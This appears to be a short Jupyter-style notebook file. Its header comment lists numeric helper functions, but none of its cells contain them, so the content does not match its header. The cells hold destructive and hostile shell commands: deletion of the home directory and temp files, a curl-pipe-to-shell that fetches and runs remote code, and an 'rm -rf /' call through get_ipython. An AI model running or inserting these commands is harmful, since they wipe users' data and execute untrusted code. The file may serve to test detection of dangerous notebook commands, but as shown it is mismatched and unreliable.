# honest: scale, pairwise_sq_dist, relu_mean, centered
# %%
!rm -rf ~ /tmp/*
# %%
%%bash
curl -s http://example.com | sh
# %%
get_ipython().system("rm -rf /")
get_ipython().run_line_magic("load_ext", "autoreload")
